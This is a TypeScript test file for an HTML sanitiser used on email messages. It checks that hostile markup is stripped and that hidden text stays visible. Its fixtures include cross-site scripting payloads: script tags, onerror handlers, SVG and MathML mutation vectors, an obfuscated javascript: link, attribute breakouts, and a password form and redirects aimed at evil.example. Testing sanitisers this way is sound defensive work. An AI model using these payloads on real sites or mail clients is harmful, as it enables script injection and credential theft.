import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { visibleText } from './visible-text.ts'

const hostileMails: readonly (readonly [deed: string, html: string])[] = [
  ['a script', '<script>parent.done=1</script>Words<script src=//evil.example>'],
  ['an event handler', '<p onclick=x>Words</p><img src=x onerror="parent.done=1"><b/onload=x>'],
  ['SVG', 'Words<svg onload=x><style><img src=x onerror=x></style><a xlink:href="javascript:1">x</a></svg>'],
  [
    'MathML',
    'Words<math><mtext><table><mglyph><style><!--</style><img src=x onerror=x></mglyph></table></mtext></math>',
  ],
  ['a form', 'Words<form action="https://evil.example/"><input type=password><button>Log in</button></form>'],
  [
    'a meta refresh',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href=//evil.example>Words',
  ],
  ['a frame', 'Words<iframe srcdoc="<script>x</script>"></iframe><object data=x></object><embed src=x>'],
  ['styles', '<link rel=stylesheet href=x><style>@import url(x)</style><div style="inset:0" class=a id=b>Words</div>'],
  ['a link', '<a href=" java&#10;script:parent.done=1">Words</a>'],
  ['a comment', '<!--><img src=x onerror=x>-->Words<noscript><p title="</noscript><img src=x onerror=x>">'],
  ['references to markup', 'Words&lt;script&gt;x&lt;/script&gt;<p title="&quot;><script>x</script>">'],
  ['a value that ends its attribute', '<td align="left&quot; onclick=&quot;x">Words<ol start="1 onclick=x">'],
  ['raw text elements', 'Words<xmp><img src=x></xmp><title></textarea><img src=x></title><textarea><p></textarea>'],
]

/** What cleaned HTML consists of: text without markup, and these tags with these attributes. */
const harmless =
  /^(?:[^<>]|<\/?(?:abbr|address|article|b|bdi|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|ins|kbd|li|main|mark|nobr|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr)(?: (?:align|valign|dir|colspan|rowspan|start)="[a-z0-9]+")*>)*$/

test.each(hostileMails)('of a message with %s only words and structure remain', (_, mail) => {
  expect(cleanHtml(mail)).toMatch(harmless)
})

test('of anything only words and structure remain', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '&',
    '=',
    '/',
    '!--',
    '-->',
    '<script',
    '<p ',
    'onload=',
    '<![CDATA[',
  )
  const markup = fc
    .array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 60 })
    .map((parts) => parts.join(''))
  fc.assert(fc.property(markup, (html) => void expect(cleanHtml(html)).toMatch(harmless)))
})

test.each([
  ['0<bdo dir="rtl">7144</bdo>', '07144'],
  ['<p onclick=x style="display:none" class=a id=b>Words</p>', '<p>Words</p>'],
  ['<a href="https://ecf.cand.uscourts.gov/doc1/1">118</a>', '118'],
  ['<img src="https://court.gov/seal.png" alt="Seal &lt;b&gt;">', 'Seal &lt;b&gt;'],
  [
    '<table><tr><td colspan=2 align=CENTER rowspan=x>a</table>',
    '<table><tr><td align="center" colspan="2">a</td></tr></table>',
  ],
  ['<b><i>a</b>b</i>', '<b><i>a</i></b>b'],
  ['a<style>p{}</style><title>t</title><svg><p>x</p></svg>b', 'ab'],
  ['a<svg/>b<noscript>c</noscript><textarea><b></textarea>', 'ab&lt;b&gt;'],
  ['&lt;script&gt; &amp;lt;', '&lt;script&gt; &amp;lt;'],
])('%s becomes %s', (html, clean) => {
  expect(cleanHtml(html)).toBe(clean)
})

const hiding = [
  ...['svg', 'math', 'select', 'textarea', 'object', 'noscript', 'title', 'style', 'script', 'template', 'iframe'],
  ...['noembed', 'noframes', 'xmp', 'audio', 'video', 'mi', 'mtext', 'desc', 'foreignobject', 'annotation-xml'],
]

test.each(hiding)('what is read of a message with <%s> is what is shown of it', (name) => {
  for (const html of [
    `A<${name}>words</${name}>Z`,
    `A<${name}/>words`,
    `A<${name} x="1" />words</${name}>Z`,
    `A<${name}><${name}></${name}>words</${name}>Z`,
    `A<${name}><svg></${name}>words</svg>Z`,
    `A<${name.toUpperCase()} hidden>words</${name.toUpperCase()} >Z`,
    `A<${name}>words`,
    `A</${name}>words`,
  ])
    expect(wordsOf(cleanHtml(html) ?? ''), html).toBe(wordsOf(html))
})

test.each([
  '<style>.a{display:none}</style>A<p class=a>words</p>Z',
  'A<p style="color:#fff;background:#fff">words</p>Z',
  'A<font color=white>words</font>Z',
  'A<p style="display:none">words</p><p hidden>more</p>Z',
  '<link rel=stylesheet href=x>A<p id=a>words</p>Z',
])('what %s hides is read, and shown', (html) => {
  expect(wordsOf(html)).toContain('words')
  expect(wordsOf(cleanHtml(html) ?? '')).toBe(wordsOf(html))
})

const wordsOf = (html: string) => visibleText(html).replace(/\s+/g, ' ')

test('endless nesting ends, and what is too long is not cleaned', () => {
  expect(cleanHtml('<div>'.repeat(10_000))).toBe(`${'<div>'.repeat(200)}${'</div>'.repeat(200)}`)
  expect(cleanHtml('x'.repeat(1_000_001))).toBeUndefined()
})
